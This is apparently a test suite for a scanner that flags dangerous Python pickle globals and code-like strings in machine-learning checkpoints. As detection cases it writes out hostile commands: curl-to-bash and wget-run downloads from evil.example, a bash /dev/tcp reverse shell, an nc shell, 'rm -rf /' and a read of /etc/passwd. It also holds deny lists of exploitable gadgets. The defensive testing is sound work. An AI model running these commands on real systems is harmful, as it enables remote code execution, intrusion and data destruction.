import { test } from "node:test";
import assert from "node:assert/strict";
import { PyBytes, PyCall, PyDict, PyGlobal, PyList, PyTuple, type PyValue } from "../../src/formats/pickle/values.js";
import { classifyGlobal, codeLikeReason, judgePickle, worstTier, type GlobalVerdict, type SafetyOptions } from "../../src/safety/globals.js";

const tierOf = (qualname: string, options?: SafetyOptions) => {
  const dot = qualname.lastIndexOf(".");
  return classifyGlobal(qualname.slice(0, dot), qualname.slice(dot + 1), options).tier;
};

let offset = 0;
const g = (module: string, name: string) => new PyGlobal(module, name, offset++);
const call = (callee: PyValue, args: PyValue[], kind: PyCall["kind"] = "reduce") => new PyCall(callee, args, kind, offset++);

/** A decoded pickle from calls: globals are collected from the callees and arguments. */
function pickle(calls: PyCall[], extraGlobals: PyGlobal[] = [], builds: { target: PyValue; state: PyValue; offset: number }[] = []) {
  const globals = new Set<PyGlobal>(extraGlobals);
  const stack: PyValue[] = [...calls, ...builds.map((b) => b.target)];
  while (stack.length > 0) {
    const v = stack.pop();
    if (v instanceof PyGlobal) globals.add(v);
    if (v instanceof PyCall) stack.push(v.callee, ...v.args);
    if (v instanceof PyTuple || v instanceof PyList) stack.push(...v.items);
  }
  return { globals: [...globals], calls, builds };
}

const find = (verdicts: GlobalVerdict[], qualname: string) => verdicts.find((v) => v.qualname === qualname);

test("allowed: torch's weights_only list", () => {
  for (const q of [
    "collections.OrderedDict", "collections.Counter", "torch._utils._rebuild_tensor_v2", "torch._utils._rebuild_parameter",
    "torch.FloatStorage", "torch.BFloat16Storage", "torch.storage.UntypedStorage", "torch.float32", "torch.uint3", "torch.int7",
    "torch.float8_e4m3fn", "torch.Size", "torch.device", "_codecs.encode", "builtins.set", "torch.per_tensor_affine",
    "torch._tensor._rebuild_from_type_v2", "torch.nn.parameter.Parameter", "torch.cuda.FloatTensor",
  ]) assert.equal(tierOf(q), "allowed", q);
  // protocol-2 aliases, normalised defensively
  assert.equal(classifyGlobal("__builtin__", "set").tier, "allowed");
});

test("harmless: numpy, argparse, pathlib, transformers, accelerate, lightning, value types", () => {
  for (const q of [
    "numpy.core.multiarray._reconstruct", "numpy._core.multiarray._reconstruct", "numpy.ndarray", "numpy.dtype",
    "numpy.core.multiarray.scalar", "numpy.dtypes.Float32DType", "argparse.Namespace", "pathlib.PosixPath",
    "transformers.training_args.TrainingArguments", "transformers.trainer_utils.IntervalStrategy", "transformers.trainer_utils.SchedulerType",
    "transformers.training_args.OptimizerNames", "transformers.debug_utils.DebugOption", "accelerate.utils.dataclasses.DistributedType",
    "pytorch_lightning.utilities.parsing.AttributeDict", "lightning.fabric.utilities.data.AttributeDict", "builtins.dict", "builtins.slice",
    "copyreg._reconstructor",
  ]) assert.equal(tierOf(q), "harmless", q);
  assert.equal(classifyGlobal("copy_reg", "_reconstructor").tier, "harmless");
  assert.equal(tierOf("numpy.dtypes.Evil"), "unknown");
});

test("unknown: third-party globals on no list", () => {
  for (const q of ["scipy.sparse.csr.csr_matrix", "__main__.MyModel", "sklearn.linear_model._base.LinearRegression", "omegaconf.dictconfig.DictConfig", "torchvision.models.resnet.ResNet"]) {
    assert.equal(tierOf(q), "unknown", q);
  }
  assert.match(classifyGlobal("scipy.sparse.csr", "csr_matrix").reason, /--allow-global scipy\.sparse\.csr\.csr_matrix/);
});

test("default deny: the standard library and torch, on each side of the boundary", () => {
  // [qualname, tier]: a literal table, one name per side of each boundary.
  const table: [string, string][] = [
    ["__main__.Model", "unknown"], ["builtins.Model", "unsafe"], ["builtins.print", "unsafe"], ["builtins.type", "unsafe"],
    ["posixpath.join", "unsafe"], ["pstats.SortKey", "unsafe"], ["_io.BytesIO", "unsafe"], ["zoneinfo.ZoneInfo", "unsafe"],
    ["distutils.core.setup", "unsafe"], ["asynchat.async_chat", "unsafe"], ["binhex.binhex", "unsafe"], ["_testcapi.x", "unsafe"],
    ["annotationlib.call_annotate_function", "unsafe"], ["compression.zstd.open", "unsafe"],
    ["torch._utils", "unsafe"], ["torch.nn.functional.pad", "unsafe"], ["torch.utils.data.dataloader.DataLoader", "unsafe"], ["torch.utils.data.sampler.RandomSampler", "harmless"],
    ["functorch.compile.aot_function", "unsafe"], ["torchgen.utils.FileManager", "unsafe"], ["torchaudio.models.Wav2Vec2Model", "unknown"],
    ["torch.nn.functional.binary_cross_entropy", "harmless"], ["torch.nn.modules.linear.Linear", "harmless"], ["torch.nn.modules.linear.F", "unsafe"],
    ["torch.optim.lr_scheduler.CosineAnnealingWarmRestarts", "harmless"], ["torch.optim.adamw.AdamW", "harmless"], ["torch.optim.adamw.adamw", "unsafe"],
    ["collections.ChainMap", "harmless"], ["collections.namedtuple", "unsafe"], ["uuid.UUID", "harmless"], ["uuid.getnode", "unsafe"],
    ["logging.getLogger", "harmless"], ["logging.Logger", "unsafe"], ["decimal.Decimal", "harmless"], ["decimal.setcontext", "unsafe"],
  ];
  for (const [q, tier] of table) assert.equal(tierOf(q), tier, q);
  assert.match(classifyGlobal("posixpath", "join").reason, /^standard-library callable outside the known-harmless list: .*--allow-global posixpath\.join/);
  assert.match(classifyGlobal("__builtin__", "print").reason, /^builtins: standard-library callable outside the known-harmless list/);
  assert.match(classifyGlobal("torch.utils.data.dataloader", "DataLoader").reason, /^torch callable outside the known-harmless list/);
});

test("the five gadget classes of the advisories are unsafe, and on the unsafe list, not only denied by default", () => {
  const gadgets: [string, string, RegExp][] = [
    ["logging", "FileHandler", /^logging:/],
    ["test.support.script_helper", "assert_python_ok", /^test:/],
    ["lib2to3.pgen2.grammar", "Grammar.loads", /^lib2to3:/],
    ["torch.utils.data.datapipes.utils.decoder", "basichandlers", /^torch\.utils\.data\.datapipes\.utils\.decoder:/],
    ["torch.utils._config_module", "ConfigModule.load_config", /^torch\.utils\._config_module:/],
    ["torch._functorch.config", "load_config", /^torch\.\*\.load_config:/],
  ];
  for (const [m, n, reason] of gadgets) {
    const v = classifyGlobal(m, n, { allowGlobals: [`${m}.${n}`] });
    assert.equal(v.tier, "unsafe", `${m}.${n}`);
    assert.match(v.reason, reason, `${m}.${n}`);
  }
});

test("the unsafe list covers picklescan's, modelscan's and fickling's lists (the versions docs/globals.md names), --allow-global or not", () => {
  // picklescan _unsafe_globals: module -> names ("*" as a representative name)
  const picklescan: [string, string][] = [
    ["builtins", "eval"], ["builtins", "compile"], ["builtins", "getattr"], ["builtins", "apply"], ["builtins", "exec"], ["builtins", "open"], ["builtins", "breakpoint"],
    ["cloudpickle.cloudpickle", "_make_function"], ["cloudpickle.cloudpickle", "subimport"], ["types", "CodeType"], ["aiohttp", "x"], ["asyncio", "x"], ["bdb", "x"],
    ["commands", "x"], ["ctypes", "x"], ["httplib", "x"], ["logging", "FileHandler"], ["_io", "FileIO"], ["numpy.f2py", "x"], ["numpy.testing._private.utils", "runstring"],
    ["nt", "x"], ["posix", "x"], ["_operator", "attrgetter"], ["_operator", "itemgetter"], ["_operator", "methodcaller"], ["operator", "attrgetter"], ["operator", "itemgetter"],
    ["operator", "methodcaller"], ["os", "x"], ["requests.api", "x"], ["runpy", "x"], ["shutil", "x"], ["socket", "x"], ["ssl", "x"], ["subprocess", "x"], ["sys", "x"],
    ["code", "InteractiveInterpreter.runcode"], ["cProfile", "x"], ["distutils.file_util", "x"], ["doctest", "debug_script"], ["ensurepip", "_run_pip"],
    ["idlelib.autocomplete", "AutoComplete.get_entity"], ["idlelib.calltip", "get_entity"], ["idlelib.debugobj", "ObjectTreeItem.SetText"],
    ["idlelib.pyshell", "ModifiedInterpreter.runcode"], ["idlelib.run", "Executive.runcode"], ["imaplib", "IMAP4_stream"], ["lib2to3.pgen2.grammar", "Grammar.loads"],
    ["lib2to3.pgen2.pgen", "ParserGenerator.make_label"], ["pdb", "x"], ["pickle", "x"], ["_pickle", "x"], ["pip", "x"], ["pkgutil", "resolve_name"], ["pty", "x"],
    ["profile", "x"], ["pydoc", "x"], ["test", "x"], ["timeit", "x"], ["torch._dynamo.guards", "GuardBuilder.get"], ["torch._inductor.codecache", "compile_file"],
    ["torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"], ["torch.jit.unsupported_tensor_ops", "execWrapper"], ["torch.serialization", "load"],
    ["torch.utils._config_module", "ConfigModule.load_config"], ["torch.utils.bottleneck.__main__", "run_cprofile"], ["torch.utils.collect_env", "run"],
    ["torch.utils.data.datapipes.utils.decoder", "basichandlers"], ["trace", "Trace.run"], ["urllib.request", "x"], ["uuid", "_get_command_stdout"], ["venv", "x"],
    ["webbrowser", "x"], ["_osx_support", "x"], ["_aix_support", "x"], ["_pyrepl", "x"],
  ];
  // modelscan unsafe_globals (CRITICAL and HIGH)
  const modelscan: [string, string][] = [["builtins", "__import__"], ["aiohttp.client", "x"], ["requests.api", "x"], ["webbrowser", "x"], ["pickle", "x"], ["pty", "x"]];
  // fickling UNSAFE_IMPORTS: whole modules
  const fickling = [
    "__builtins__", "os", "posix", "nt", "subprocess", "sys", "pty", "commands", "multiprocessing", "_posixsubprocess", "code", "codeop", "runpy", "marshal", "types",
    "doctest", "_interpreters", "_xxsubinterpreters", "importlib", "_frozen_importlib", "_frozen_importlib_external", "_imp", "imp", "pkgutil", "zipimport", "gc", "site",
    "unittest", "inspect", "test", "_operator", "operator", "functools", "cProfile", "profile", "pdb", "bdb", "timeit", "trace", "socket", "ssl", "httplib", "http",
    "urllib", "urllib2", "requests", "aiohttp", "asyncio", "webbrowser", "smtplib", "imaplib", "ftplib", "poplib", "telnetlib", "nntplib", "ctypes", "_ctypes", "pickle",
    "_pickle", "dill", "cloudpickle", "joblib", "shutil", "tempfile", "filecmp", "distutils", "pydoc", "pexpect", "pipes", "venv", "ensurepip", "pip", "idlelib", "lib2to3",
    "socketserver", "xmlrpc", "signal", "_signal", "threading", "_thread", "atexit", "sqlite3", "_sqlite3", "fileinput", "glob", "platform", "linecache", "difflib",
    "compileall", "py_compile", "mmap", "select", "selectors", "logging", "syslog", "tarfile", "zipfile", "shelve", "uuid", "_osx_support", "_aix_support",
  ];
  const all: [string, string][] = [...picklescan, ...modelscan, ...fickling.map((m): [string, string] => [m, "some_name"])];
  for (const [m, n] of all) {
    const v = classifyGlobal(m, n, { allowGlobals: [`${m}.${n}`] });
    assert.equal(v.tier, "unsafe", `${m}.${n}: ${v.reason}`);
    assert.doesNotMatch(v.reason, /^(?:standard-library|torch) callable outside/, `${m}.${n} is only denied by default, not listed`);
  }
});

test("attribute paths into the standard library or torch are judged where they lead", () => {
  assert.equal(classifyGlobal("mylib", "logging.FileHandler").tier, "unsafe");
  assert.match(classifyGlobal("mylib", "logging.handlers.SocketHandler").reason, /^reaches logging through the attribute path/);
  assert.equal(classifyGlobal("mylib.train", "json.JSONDecoder").tier, "unsafe"); // default deny reached through the path
  assert.equal(classifyGlobal("mylib", "collections.OrderedDict").tier, "unknown"); // a trusted object: mylib itself is what is unknown
  assert.equal(classifyGlobal("mylib.models", "Net.Config").tier, "unknown"); // a nested class
  assert.equal(classifyGlobal("mylib.models", "Net.json").tier, "unknown"); // a last component is an attribute, not a module
  assert.equal(classifyGlobal("__main__", "os.system").tier, "unsafe");
  assert.equal(classifyGlobal("torch", "nn.modules.linear.Linear").tier, "harmless"); // the same object as torch.nn.modules.linear.Linear
  assert.equal(classifyGlobal("torch", "nn.modules.linear.Linear.forward").tier, "unsafe");
  assert.equal(classifyGlobal("mylib", Array.from({ length: 40 }, (_, i) => `a${i}`).join(".")).tier, "unsafe");
  assert.equal(classifyGlobal("mylib", Array.from({ length: 20 }, (_, i) => `a${i}`).join(".")).tier, "unknown");
  assert.match(classifyGlobal("mylib", "x".repeat(2_000_000)).reason, /^a name of 2000006 characters/);
  assert.equal(classifyGlobal("mylib", "x".repeat(1000)).tier, "unknown");
});

test("a STACK_GLOBAL computed while loading (__dynamic__) is unsafe", () => {
  const v = classifyGlobal("__dynamic__", "str(...).str(...)");
  assert.equal(v.tier, "unsafe");
  assert.match(v.reason, /computed while loading/);
});

test("unsafe: modules by dotted-component prefix, functions, attribute paths", () => {
  for (const q of [
    "os.system", "posix.system", "nt.system", "subprocess.Popen", "sys.modules", "builtins.eval", "builtins.exec", "builtins.compile",
    "builtins.open", "builtins.__import__", "builtins.apply", "builtins.breakpoint", "builtins.setattr", "cProfile.run", "profile.Profile.runctx",
    "trace.Trace.run", "code.InteractiveInterpreter.runsource", "pdb.run", "idlelib.pyshell.main", "distutils.spawn.spawn", "setuptools.sandbox.run_setup",
    "ctypes.CDLL", "multiprocessing.Process", "asyncio.create_subprocess_shell", "operator.methodcaller", "types.CodeType", "types.FunctionType",
    "functools.reduce", "torch.utils.bottleneck.__main__.run_cprofile", "torch.jit.load", "torch.hub.load", "numpy.testing._private.utils.runstring",
    "numpy.f2py.compile", "shutil.rmtree", "webbrowser.open", "torch.fx.graph_module.reduce_graph_module", "torch.storage._load_from_bytes",
  ]) assert.equal(tierOf(q), "unsafe", q);
  assert.equal(tierOf("torch._inductor.codecache.compile_file"), "unsafe");
  assert.match(classifyGlobal("torch._inductor.codecache", "compile_file").reason, /^torch\._inductor:/);
  assert.equal(tierOf("torch._inductor_helpers.x"), "unsafe"); // not torch._inductor (components, not string prefixes), but torch's default deny
  assert.match(classifyGlobal("torch._inductor_helpers", "x").reason, /^torch callable outside/);
  assert.equal(tierOf("ossify.system"), "unknown");
  // STACK_GLOBAL attribute paths that walk into a dangerous module or internals
  assert.equal(classifyGlobal("torch", "os.system").tier, "unsafe");
  assert.equal(classifyGlobal("torch._utils", "sys").tier, "unsafe");
  assert.equal(classifyGlobal("collections", "OrderedDict.__init__").tier, "unsafe");
  assert.equal(classifyGlobal("pathlib", "Path.unlink").tier, "unsafe");
  assert.equal(classifyGlobal("mylib.metrics", "trace").tier, "unknown"); // a function named like a module is not one
});

test("the globals picklescan's malicious files use are unsafe; the benign ones are not", () => {
  const malicious: [string, string][] = [
    ["bdb", "Bdb.run"], ["bdb", "Bdb"], ["venv", "create"], ["pydoc", "pipepager"], ["torch._inductor.codecache", "compile_file"],
    ["functools", "partial"], ["torch.serialization", "load"], ["requests.api", "get"], ["aiohttp.client", "ClientSession"],
    ["httplib", "HTTPSConnection"], ["_pickle", "loads"], ["pickle", "loads"], ["runpy", "_run_code"], ["sys", "exit"], ["pip", "main"],
    ["operator", "attrgetter"], ["socket", "create_connection"], ["subprocess", "run"], ["os", "system"], ["posix", "system"],
    ["__builtin__", "eval"], ["__builtin__", "exec"], ["__builtin__", "apply"], ["__builtin__", "globals"], ["__builtin__", "compile"],
    ["__builtin__", "getattr"], ["builtins", "__import__"],
  ];
  for (const [m, n] of malicious) assert.equal(classifyGlobal(m, n).tier, "unsafe", `${m}.${n}`);
  for (const q of ["numpy.core.multiarray._reconstruct", "argparse.Namespace", "collections.OrderedDict", "torch._utils._rebuild_tensor_v2", "torch.FloatStorage"]) {
    assert.notEqual(tierOf(q), "unsafe", q);
  }
});

test("allowGlobals adds to the harmless tier and lifts the default deny, but cannot override the unsafe list", () => {
  const opts = { allowGlobals: ["scipy.sparse.csr.csr_matrix", "os.system", "__builtin__.myfunc", "pstats.SortKey", "torch.utils.data.dataloader.DataLoader", "logging.FileHandler"] };
  assert.deepEqual(classifyGlobal("scipy.sparse.csr", "csr_matrix", opts), { tier: "harmless", reason: "allowed with --allow-global" });
  assert.equal(classifyGlobal("os", "system", opts).tier, "unsafe");
  assert.equal(classifyGlobal("logging", "FileHandler", opts).tier, "unsafe");
  assert.equal(classifyGlobal("builtins", "myfunc", opts).tier, "unsafe"); // builtins is on the unsafe list as a whole (fickling's list); its value types are judged first
  assert.equal(classifyGlobal("pstats", "SortKey", opts).tier, "harmless");
  assert.equal(classifyGlobal("pstats", "SortKey").tier, "unsafe");
  assert.equal(classifyGlobal("torch.utils.data.dataloader", "DataLoader", opts).tier, "harmless");
  assert.equal(classifyGlobal("torch.utils.data.dataloader", "default_collate", opts).tier, "unsafe"); // exact names only
  assert.equal(classifyGlobal("scipy.sparse", "csr.csr_matrix", opts).tier, "harmless"); // the same qualname split differently
  // a standard-library enum member: getattr(pstats.SortKey, "TIME") follows its class
  const member = () => pickle([call(g("builtins", "getattr"), [g("pstats", "SortKey"), "TIME"])]);
  assert.equal(worstTier(judgePickle(member())), "unsafe");
  assert.equal(worstTier(judgePickle(member(), { allowGlobals: ["pstats.SortKey"] })), "harmless");
});

test("a harmless entry covers the uses it names: rebuilt, called, or only stored", () => {
  const tier = (calls: PyCall[], options?: SafetyOptions) => worstTier(judgePickle(pickle(calls), options));
  const linear = () => g("torch.nn.modules.linear", "Linear");
  // whole-model pickles rebuild modules with NEWOBJ; REDUCE runs __init__ with the file's arguments
  assert.equal(tier([call(linear(), [], "newobj")]), "harmless");
  assert.equal(tier([call(linear(), [100000, 100000], "reduce")]), "unsafe");
  const called = judgePickle(pickle([call(linear(), [4, 4], "reduce")]));
  assert.equal(called.length, 1); // folded into the global's own verdict
  assert.match(called[0]!.reason, /called with arguments the file chooses, while it is known harmless only when rebuilt without __init__: torch callable outside/);
  assert.equal(tier([call(linear(), [4, 4], "reduce")], { allowGlobals: ["torch.nn.modules.linear.Linear"] }), "harmless");
  // INST/OBJ run __init__ only with arguments
  assert.equal(tier([call(linear(), [], "inst")]), "harmless");
  assert.equal(tier([call(linear(), [4], "obj")]), "unsafe");
  // a third-party rebuild-only class called is a warning, not an error
  assert.equal(tier([call(g("transformers.training_args", "TrainingArguments"), [], "newobj")]), "harmless");
  assert.equal(tier([call(g("transformers.training_args", "TrainingArguments"), ["out"], "reduce")]), "unknown");
  // stored functions are only referenced
  assert.equal(worstTier(judgePickle(pickle([], [g("torch.nn.functional", "relu")]))), "harmless");
  assert.equal(tier([call(g("torch.nn.functional", "relu"), [1])]), "unsafe");
  assert.equal(tier([call(g("torch.nn.functional", "relu"), [], "newobj")]), "unsafe");
  // value types are harmless whichever way
  assert.equal(tier([call(g("datetime", "datetime"), [new PyBytes(new Uint8Array(10))])]), "harmless");
  assert.equal(tier([call(g("pathlib", "PosixPath"), ["x"])]), "harmless");
});

test("copyreg._reconstructor rebuilds its class and calls its base", () => {
  const rec = (cls: PyGlobal, base: PyGlobal) => call(g("copyreg", "_reconstructor"), [cls, base, null]);
  const linear = () => g("torch.nn.modules.linear", "Linear");
  assert.equal(worstTier(judgePickle(pickle([rec(linear(), g("builtins", "object"))]))), "harmless");
  const asBase = judgePickle(pickle([rec(g("mylib", "Net"), linear())]));
  assert.equal(find(asBase, "copyreg._reconstructor")!.tier, "unsafe");
  assert.ok(asBase.some((v) => v.qualname.startsWith("copyreg._reconstructor(") && /Linear is unsafe here \(called with arguments/.test(v.reason)), JSON.stringify(asBase));
  // a third-party rebuild-only base: a warning of its own, since the class's own verdict is harmless
  const ta = judgePickle(pickle([rec(g("mylib", "Args"), g("transformers.training_args", "TrainingArguments"))]));
  assert.ok(ta.some((v) => v.qualname.startsWith("copyreg._reconstructor(") && v.tier === "unknown"), JSON.stringify(ta));
  assert.equal(find(ta, "transformers.training_args.TrainingArguments")!.tier, "harmless");
});

test("getattr on a trusted class with a plain name is harmless (enum members)", () => {
  const getattr = g("builtins", "getattr");
  const steps = call(getattr, [g("transformers.trainer_utils", "IntervalStrategy"), "STEPS"]);
  const linear = call(getattr, [g("transformers.trainer_utils", "SchedulerType"), "LINEAR"]);
  const args = call(g("transformers.training_args", "TrainingArguments"), [], "newobj");
  const verdicts = judgePickle(pickle([steps, linear, args]));
  assert.equal(find(verdicts, "builtins.getattr")!.tier, "harmless");
  assert.equal(find(verdicts, "builtins.getattr")!.count, 1);
  assert.ok(verdicts.every((v) => v.tier === "harmless"), JSON.stringify(verdicts));
  assert.equal(worstTier(verdicts), "harmless");
  // ... and a user's own enum becomes harmless with --allow-global
  const mine = judgePickle(pickle([call(g("builtins", "getattr"), [g("myproj.config", "Mode"), "TRAIN"])]), { allowGlobals: ["myproj.config.Mode"] });
  assert.equal(worstTier(mine), "harmless");
});

test("getattr on anything else is unsafe and names both sides", () => {
  const cases: [PyValue[], RegExp][] = [
    [[g("posix", "__dict__"), "system"], /posix\.__dict__/],
    [[g("posix", "system"), "x"], /unsafe/],
    [[g("myproj.config", "Mode"), "TRAIN"], /not a known class/],
    [[call(g("builtins", "dict"), []), "items"], /result of another call/],
    [[g("argparse", "Namespace"), "__init__"], /non-plain name/],
    [[g("argparse", "Namespace"), "a b"], /non-plain name/],
    [[g("argparse", "Namespace"), 3], /non-string/],
  ];
  for (const [args, reason] of cases) {
    const c = call(g("builtins", "getattr"), args);
    const verdicts = judgePickle(pickle([c]));
    const v = verdicts.find((x) => x.qualname.startsWith("builtins.getattr("));
    assert.ok(v, JSON.stringify(verdicts));
    assert.equal(v.tier, "unsafe");
    assert.match(v.reason, reason);
    assert.equal(find(verdicts, "builtins.getattr")!.tier, "unsafe");
  }
  const v = judgePickle(pickle([call(g("builtins", "getattr"), [g("posix", "system"), "x"])]));
  assert.ok(find(v, "builtins.getattr(posix.system, 'x')"));
  // referenced, never called: unsafe
  assert.equal(judgePickle(pickle([], [g("__builtin__", "getattr")]))[0]!.tier, "unsafe");
});

test("calling what getattr returned is judged as the attribute (malicious15a: getattr(bdb.Bdb, 'run')(...))", () => {
  const bound = call(g("builtins", "getattr"), [g("pathlib", "Path"), "write_text"]);
  const verdicts = judgePickle(pickle([bound, call(bound, ["pwned"])]));
  assert.equal(find(verdicts, "pathlib.Path.write_text")!.tier, "unsafe");
  const other = judgePickle(pickle([call(call(g("builtins", "dict"), []), [])]));
  assert.equal(worstTier(other), "unsafe");
});

test("functools.partial is as safe as the function it wraps", () => {
  const bad = judgePickle(pickle([call(g("functools", "partial"), [g("torch.serialization", "load"), "x.pt"])]));
  assert.equal(find(bad, "functools.partial")!.tier, "unsafe");
  assert.ok(bad.some((v) => v.qualname === "functools.partial(torch.serialization.load, ...)" && v.tier === "unsafe"));
  const good = judgePickle(pickle([call(g("functools", "partial"), [g("torch._utils", "_rebuild_tensor_v2")])]));
  assert.equal(find(good, "functools.partial")!.tier, "harmless");
  // a pickled partial also carries its function in the BUILD state
  const sneaky = call(g("functools", "partial"), [g("builtins", "dict")]);
  sneaky.state = new PyTuple([g("posix", "system"), new PyTuple([]), null, null]);
  assert.equal(find(judgePickle(pickle([sneaky])), "functools.partial")!.tier, "unsafe");
});

test("copyreg._reconstructor is judged by the class it builds", () => {
  const rec = (cls: PyGlobal) => call(g("copyreg", "_reconstructor"), [cls, g("builtins", "object"), null]);
  assert.equal(worstTier(judgePickle(pickle([rec(g("argparse", "Namespace"))]))), "harmless");
  const unknown = judgePickle(pickle([rec(g("scipy.sparse.csr", "csr_matrix"))]));
  assert.equal(find(unknown, "copyreg._reconstructor")!.tier, "harmless"); // the class carries the warning, once
  assert.equal(find(unknown, "scipy.sparse.csr.csr_matrix")!.tier, "unknown");
  assert.equal(worstTier(unknown), "unknown");
  const evil = judgePickle(pickle([rec(g("subprocess", "Popen"))]));
  assert.equal(find(evil, "copyreg._reconstructor")!.tier, "unsafe");
});

test("BUILD on a global is unsafe (sys_module_override_sploit.pkl)", () => {
  const mod = g("torch", "_utils");
  const verdicts = judgePickle(pickle([], [mod], [{ target: mod, state: new PyDict(), offset: 99 }]));
  // folded into the global's own verdict: one verdict per name, at the worse tier
  const v = verdicts.filter((x) => x.qualname === "torch._utils");
  assert.equal(v.length, 1);
  assert.equal(v[0]!.tier, "unsafe");
  assert.match(v[0]!.reason, /^torch callable outside the known-harmless list.*; BUILD sets attributes/);
});

test("code-like strings: Python source and shell commands are caught", () => {
  for (const s of [
    "__import__('os').system('id')", "os.system('ls')", "import os; os.system('x')", "import os", "from os import system",
    "exec(base64.b64decode('aW1wb3J0IG9z'))", "eval('1+1')", "subprocess.run(['id'])", "().__class__.__bases__[0].__subclasses__()",
    "curl http://evil.example/x.sh | bash", "rm -rf /", "/bin/sh -c id", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "echo pwned; id",
    "wget https://evil.example/y -O /tmp/y && chmod +x /tmp/y && /tmp/y", "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'",
    "nc -e /bin/sh 1.2.3.4 4444", 'fl=open("/etc/passwd");picklesmashed=fl.read();', "powershell -enc AAAA", "cmd.exe /c whoami", "cd /tmp && wget http://x/y",
  ]) assert.ok(codeLikeReason(s), s);
  assert.match(codeLikeReason("rm -rf /home")!, /shell command: 'rm -rf \/home'/);
  assert.match(codeLikeReason("import os")!, /Python source/);
});

test("code-like strings: ordinary checkpoint strings are not", () => {
  for (const s of [
    "cosine_with_restarts", "linear", "steps", "epoch", "adamw_torch", "eval_loss", "evaluation_strategy", "model.eval()", "torch.compile",
    "/home/user/output/checkpoint-500", "runs/May01_10-00-00_host", "python train.py --lr 3e-4 --epochs 10",
    "python -m torch.distributed.run --nproc_per_node 8 train.py", "cat", "cat dog; bird", "cat|dog|bird", "rm", "bash", "echo",
    "C:\\Users\\me\\out;D:\\data", "The model was trained with care; results vary", "a | b", "from_pretrained", "import_path",
    "torch.optim.AdamW", "os.path.join", "subprocesses", "no", "cuda:0", "important: import the data first", "sh", "nc", "open", "reopen the file", "file.open(mode)",
    "\u0000\u0001;id x\nls y\u0002", // binary payloads carried as latin-1 text
  ]) assert.equal(codeLikeReason(s), undefined, s);
});

test("a call with a code-like argument is unsafe whatever the callee", () => {
  const c = call(g("mylib.utils", "helper"), [new PyTuple([new PyList(["ok", new PyDict()]), "curl http://evil.example | sh"])]);
  const verdicts = judgePickle(pickle([c]));
  const v = verdicts.find((x) => x.tier === "unsafe");
  assert.ok(v);
  assert.equal(v.qualname, "mylib.utils.helper");
  assert.match(v.reason, /shell command: 'curl http:\/\/evil\.example \| sh'/);
  // keyword arguments, BUILD state and bytes are scanned too
  const built = call(g("argparse", "Namespace"), [], "newobj");
  const state = new PyDict();
  state.set("cmd", "import os; os.system('id')");
  assert.equal(worstTier(judgePickle(pickle([built], [], [{ target: built, state, offset: 5 }]))), "unsafe");
  assert.equal(worstTier(judgePickle(pickle([call(g("mylib", "f"), [new PyBytes(new TextEncoder().encode("__import__('os')"))])]))), "unsafe");
});

test("benign calls stay benign; verdicts are counted and deduplicated", () => {
  const storage = g("torch", "FloatStorage");
  const rebuild = g("torch._utils", "_rebuild_tensor_v2");
  const calls = [call(rebuild, [storage, 0, new PyTuple([2, 2]), new PyTuple([2, 1]), false, new PyDict()]), call(rebuild, [storage, 4, new PyTuple([2]), new PyTuple([1]), false, new PyDict()])];
  const p = pickle(calls);
  p.globals.push(new PyGlobal("torch._utils", "_rebuild_tensor_v2", 1000)); // a second GLOBAL opcode for the same name
  const verdicts = judgePickle(p);
  assert.equal(find(verdicts, "torch._utils._rebuild_tensor_v2")!.count, 2);
  assert.equal(worstTier(verdicts), "allowed");
  assert.equal(worstTier([]), undefined);
});

test("argument scanning is iterative and bounded", () => {
  let deep: PyValue = "rm -rf /";
  for (let i = 0; i < 100_000; i++) deep = new PyList([deep]);
  assert.equal(worstTier(judgePickle(pickle([call(g("mylib", "f"), [deep])]))), "unsafe");
  const shared = new PyList(Array.from({ length: 10_000 }, (_, i) => `value ${i}`));
  const many = Array.from({ length: 2_000 }, () => call(g("argparse", "Namespace"), [shared]));
  // Walked once per call, the shared list would be 2,000 x 10,000 values: past the 2,000,000-value
  // budget, which ends in an "unknown" verdict instead of "harmless". Counted, not timed.
  const verdicts = judgePickle(pickle(many));
  assert.deepEqual(verdicts.map((v) => [v.qualname, v.tier, v.count]), [["argparse.Namespace", "harmless", 2_000]]);
});
